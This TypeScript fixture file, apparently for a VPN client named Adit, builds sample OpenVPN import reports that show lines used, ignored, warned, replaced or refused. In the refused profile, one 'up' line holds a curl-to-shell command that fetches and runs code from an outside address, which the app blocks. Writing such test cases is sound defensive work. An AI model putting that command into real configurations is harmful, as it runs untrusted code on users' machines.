/** Drafts as the shell would describe them. */

import type { DiffLine, ImportDraft, LineVerdict, ReportLine } from '../types';

type ReportRow = readonly [line: number, text: string, verdict: LineVerdict, explanation?: string, endLine?: number];

export function report(rows: readonly ReportRow[]): ReportLine[] {
  return rows.map(([line, text, verdict, explanation = '', endLine = line]) => ({
    line,
    endLine,
    directive: text.split(/[ <>]/).find((word) => word !== '') ?? '',
    text,
    verdict,
    explanation,
  }));
}

export function finding(verdict: LineVerdict, explanation: string): ReportLine {
  return { line: 0, endLine: 0, directive: '', text: '', verdict, explanation };
}

export function make(draft: Partial<ImportDraft> & Pick<ImportDraft, 'id'>): ImportDraft {
  const lines = draft.lines ?? [];
  const findings = draft.findings ?? [];
  const of = (verdict: LineVerdict) => [...lines, ...findings].filter((each) => each.verdict === verdict).length;
  return {
    file: `${draft.id}.ovpn`,
    name: draft.id,
    verdict: 'importable',
    headline: { title: 'Ready to import.', advice: '', detail: '' },
    servers: [],
    signIn: '',
    traffic: '',
    dns: '',
    findings,
    lines,
    fixes: [],
    needs: [],
    existing: null,
    ...draft,
    counts: {
      used: of('used'),
      replaced: of('replaced'),
      ignored: of('ignored'),
      warning: of('warning'),
      refused: of('refused'),
    },
  };
}

const COMMON: readonly ReportRow[] = [
  [1, 'client', 'used'],
  [2, 'dev tun', 'used'],
  [3, 'proto udp', 'used'],
  [4, 'remote vpn.example.com 1194', 'used'],
  [5, 'resolv-retry infinite', 'ignored', 'Adit does so anyway.'],
  [6, 'nobind', 'ignored', 'Adit does so anyway.'],
  [7, 'remote-cert-tls server', 'used'],
  [8, 'auth-user-pass', 'used'],
  [9, 'data-ciphers AES-256-GCM:CHACHA20-POLY1305', 'used'],
  [10, 'verb 3', 'ignored', 'Adit has its own log.'],
  [11, '<ca> (1 certificate)', 'used', '', 33],
  [34, '<tls-crypt> (key, kept in the keychain)', 'used', '', 56],
];

const SUMMARY = {
  signIn: 'With a user name and a password.',
  traffic: 'What the server says; the profile itself says nothing.',
  dns: 'What the server says.',
};

export const CLEAN = make({
  id: 'work',
  name: 'Office',
  file: 'office.ovpn',
  servers: ['vpn.example.com:1194 UDP'],
  ...SUMMARY,
  findings: [finding('used', 'The certificate authority is valid until 14 August 2034.')],
  lines: report(COMMON),
});

function swap(
  line: number,
  from: readonly string[],
  to: readonly string[],
  around: readonly [string, string],
): DiffLine[] {
  const shift = to.length - from.length;
  return [
    { kind: 'same', old: line - 1, new: line - 1, text: around[0] },
    ...from.map((text, at): DiffLine => ({ kind: 'removed', old: line + at, new: null, text })),
    ...to.map((text, at): DiffLine => ({ kind: 'added', old: null, new: line + at, text })),
    { kind: 'same', old: line + from.length, new: line + from.length + shift, text: around[1] },
  ];
}

export const WARNED = make({
  id: 'client-a',
  name: 'Customer North',
  file: 'customer-north-2019.ovpn',
  verdict: 'importable-with-warnings',
  headline: {
    title: 'Can be imported, with three things to know.',
    advice: 'Adit suggests two changes; both are yours to take or leave.',
    detail: '',
  },
  servers: [
    'north1.vpn.example.com:1194 UDP',
    'north2.vpn.example.com:1194 UDP',
    'north1.vpn.example.com:443 TCP',
    '203.0.113.80:443 TCP',
    '[2001:db8:44::80]:443 TCP',
    'north3.vpn.example.com:1194 UDP',
  ],
  signIn: 'With a certificate that is in the profile.',
  traffic: 'Only 10.20.0.0/16 and 192.168.40.0/24, and what the server adds.',
  dns: '10.20.0.53, for names in north.example.com.',
  findings: [
    finding('warning', 'Your certificate expires on 3 March 2027.'),
    finding(
      'warning',
      'The network 192.168.40.0/24 overlaps with the one you are on. Its computers are reached through the tunnel.',
    ),
    finding('replaced', 'The private key in the file moves into the keychain.'),
  ],
  lines: report([
    [1, 'client', 'used'],
    [2, 'dev tun', 'used'],
    [3, 'remote north1.vpn.example.com 1194 udp', 'used'],
    [4, 'remote north2.vpn.example.com 1194 udp', 'used'],
    [5, 'remote north1.vpn.example.com 443 tcp', 'used'],
    [8, 'cipher AES-256-CBC', 'warning', 'AES-256-CBC is used only where the server cannot agree on a better cipher.'],
    [
      9,
      'comp-lzo',
      'warning',
      'Adit never compresses, because that can give away what is in the tunnel. Packets only look as the server expects them.',
    ],
    [
      10,
      'ns-cert-type server',
      'replaced',
      'The server is checked in an old way; “remote-cert-tls server” does the same and more.',
    ],
    [11, 'script-security 2', 'ignored', 'It is for scripts, which Adit does not run.'],
    [
      12,
      'up /etc/openvpn/update-resolv-conf',
      'replaced',
      'The script that sets DNS is not run; Adit sets DNS itself.',
    ],
    [
      13,
      'down /etc/openvpn/update-resolv-conf',
      'replaced',
      'The script that sets DNS is not run; Adit sets DNS itself.',
    ],
    [14, 'user nobody', 'ignored', 'Adit’s helper runs with the least rights anyway.'],
    [15, 'route 10.20.0.0 255.255.0.0', 'used'],
    [16, 'route 192.168.40.0 255.255.255.0', 'used'],
    [17, 'dhcp-option DNS 10.20.0.53', 'used'],
    [18, 'dhcp-option DOMAIN north.example.com', 'used'],
    [19, 'tun-mtu-extra 32', 'ignored', 'Adit tunes itself.'],
    [20, '<ca> (2 certificates)', 'used', '', 62],
    [63, '<cert> (certificate)', 'used', '', 92],
    [93, '<key> (private key, kept in the keychain)', 'used', '', 121],
  ]),
  fixes: [
    {
      id: 'data-ciphers-8',
      title: 'Translate which ciphers may be agreed on',
      why: 'With “cipher” alone, current servers fall back to an old way. A list of ciphers lets both sides choose the best one.',
      applied: false,
      diff: swap(
        8,
        ['cipher AES-256-CBC'],
        ['cipher AES-256-CBC', 'data-ciphers AES-256-GCM:AES-128-GCM:AES-256-CBC'],
        ['', 'comp-lzo'],
      ),
    },
    {
      id: 'remote-cert-tls-10',
      title: 'Check the server in the current way',
      why: '“ns-cert-type” reads a field that certificates do not have any more.',
      applied: false,
      diff: swap(10, ['ns-cert-type server'], ['remote-cert-tls server'], ['comp-lzo', 'script-security 2']),
    },
  ],
});

export const REFUSED = make({
  id: 'legacy',
  name: 'legacy-tap-config-from-2013',
  file: 'legacy-tap-config-from-2013.ovpn',
  verdict: 'reject',
  headline: {
    title: 'This profile cannot be used.',
    advice: 'Two lines stand in the way. Ask whoever gave you the profile for one without them.',
    detail: '',
  },
  servers: ['vpn.old.example.org:1194 UDP'],
  signIn: 'With a certificate that is in the profile.',
  traffic: 'Cannot be rows.',
  dns: 'What the server says.',
  lines: report([
    [1, 'client', 'used'],
    [
      4,
      'dev tap',
      'refused',
      'The profile bridges whole networks (tap). Adit makes routed tunnels (tun). Ask whoever runs the server for a “tun” profile.',
    ],
    [5, 'remote vpn.old.example.org 1194', 'used'],
    [7, 'persist-key', 'ignored', 'Adit does so anyway.'],
    [
      31,
      'up "/bin/sh -c \'curl -s http://198.51.100.9/x | sh\'"',
      'refused',
      '“up” would run a program of the profile’s choice. Adit never does that.',
    ],
  ]),
});

export const HTML = make({
  id: 'download',
  name: 'download',
  verdict: 'reject',
  headline: {
    title: 'The file is a web page, not a profile.',
    advice:
      'The download link probably led to a sign-in page. Sign in there with the browser and download the profile again.',
    detail: 'first bytes: <!doctype html>',
  },
});

export const NEEDING = make({
  id: 'needing',
  name: 'Laboratory',
  file: 'laboratory.ovpn',
  verdict: 'reject',
  headline: {
    title: 'The files ca.crt and lab.key are missing.',
    advice: 'Find them, and it can be imported.',
    detail: '',
  },
  servers: ['lab.example.edu:1194 UDP'],
  signIn: 'With a certificate from a file beside the profile.',
  traffic: 'Everything goes through the tunnel.',
  dns: 'What the server says.',
  needs: [
    {
      kind: 'file',
      id: 'ca.crt',
      line: 6,
      explanation: 'The file “ca.crt” says whom to trust. It is not beside the profile.',
    },
    {
      kind: 'file',
      id: 'lab.key',
      line: 8,
      explanation: 'The file “lab.key” is your private key. It is not beside the profile.',
    },
  ],
  lines: report([
    [1, 'client', 'used'],
    [2, 'dev tun', 'used'],
    [3, 'remote lab.example.edu 1194', 'used'],
    [5, 'redirect-gateway def1', 'used'],
    [6, 'ca ca.crt', 'refused', 'The file “ca.crt” is needed and is not beside the profile.'],
    [7, 'cert lab.crt', 'used'],
    [8, 'key lab.key', 'refused', 'The file “lab.key” is needed and is not beside the profile.'],
  ]),
});

export const TEMPLATE = make({
  id: 'template',
  name: 'Router',
  file: 'client-template.ovpn',
  verdict: 'reject',
  headline: { title: 'The address of the server is missing.', advice: 'Type it, and it can be imported.', detail: '' },
  needs: [
    {
      kind: 'address',
      id: 'YOUR_SERVER_IP',
      line: 4,
      explanation: '“YOUR_SERVER_IP” stands where the address of the server should be.',
    },
  ],
  signIn: 'With a certificate that is in the profile.',
  lines: report([
    [1, 'client', 'used'],
    [4, 'remote YOUR_SERVER_IP 1194', 'refused', '“YOUR_SERVER_IP” stands where the server’s address should be.'],
  ]),
});

export const LINKED = make({
  id: 'linked',
  name: 'portal.example.com',
  file: 'portal.example.com',
  verdict: 'importable-with-warnings',
  headline: {
    title: 'A link wants to bring a profile from portal.example.com.',
    advice: 'Fetch it only if you know who sent the link.',
    detail: '',
  },
  needs: [
    {
      kind: 'fetch',
      id: 'portal.example.com',
      line: 0,
      explanation: 'The profile is at portal.example.com and has not been fetched.',
    },
  ],
});

export const COLLIDING = make({
  ...CLEAN,
  id: 'colliding',
  name: 'Work',
  file: 'Work.ovpn',
  existing: { id: 'work', name: 'Work', same: false },
});

export const SAME = make({
  ...CLEAN,
  id: 'same',
  name: 'Home',
  file: 'Home.ovpn',
  headline: { title: 'Home is here already.', advice: 'Nothing in it changed.', detail: '' },
  existing: { id: 'home', name: 'Home', same: true },
});

/** Sites of one company: most of them clean, every seventh with a remark, every thirteenth of no use. */
export function offices(count: number): ImportDraft[] {
  return Array.from({ length: count }, (_, index) => {
    const number = String(index + 1).padStart(3, '0');
    const base = index % 13 === 12 ? REFUSED : index % 7 === 6 ? WARNED : CLEAN;
    return { ...base, id: `site-${number}`, name: `Site ${number}`, file: `site-${number}.ovpn` };
  });
}

/** Names and words that no layout likes. */
export const AWKWARD = make({
  ...WARNED,
  id: 'awkward',
  name: 'Donaudampfschifffahrtsgesellschaft Zentralverwaltung Außenstelle Süd (Wartungszugang)',
  file: 'فرع-القاهرة_a-file-name-without-any-break-that-goes-on-and-on-and-on-and-on.ovpn',
  servers: ['a-really-long-host-name-without-any-break.internal.infrastructure.corporate.example.com:1194 UDP'],
  existing: { id: 'work', name: 'שלום עולם (Work)', same: false },
});
